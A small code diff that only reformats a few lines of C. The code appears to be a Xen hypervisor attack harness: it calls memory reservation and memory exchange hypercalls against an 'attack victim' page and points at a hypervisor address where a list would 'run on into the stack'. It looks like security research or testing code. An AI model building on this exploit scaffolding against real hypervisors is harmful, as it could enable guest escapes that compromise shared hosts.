@@ -23,7 +23,9 @@ static gnttab_unmap_grant_ref_t recent[16]; /* how what was mapped last is unmap
 
 static long reservation(struct attacker *a, unsigned int op, uint64_t *frame, unsigned int order)
 {
-	xen_memory_reservation_t r = { .nr_extents = 1, .extent_order = order, .domid = DOMID_SELF };
+	xen_memory_reservation_t r = { .nr_extents = 1,
+				       .extent_order = order,
+				       .domid = DOMID_SELF };
 	uint64_t args[5] = { op, (uint64_t)&r };
 
 	set_xen_guest_handle(r.extent_start, (xen_pfn_t *)frame);
@@ -75,7 +77,8 @@ static void exchange(struct attacker *a)
 {
 	char *page = attack_victim(a);
 	uint64_t in = virt_to_mfn(page).n, out = virt_to_pfn(page).n;
-	uint64_t nowhere = 0xffff820000000000; /* where a list of several would run on into the stack */
+	uint64_t nowhere =
+		0xffff820000000000; /* where a list of several would run on into the stack */
 	xen_memory_exchange_t x = {
 		.in = { .nr_extents = 1, .domid = DOMID_SELF },
 		.out = { .nr_extents = 1, .domid = DOMID_SELF },
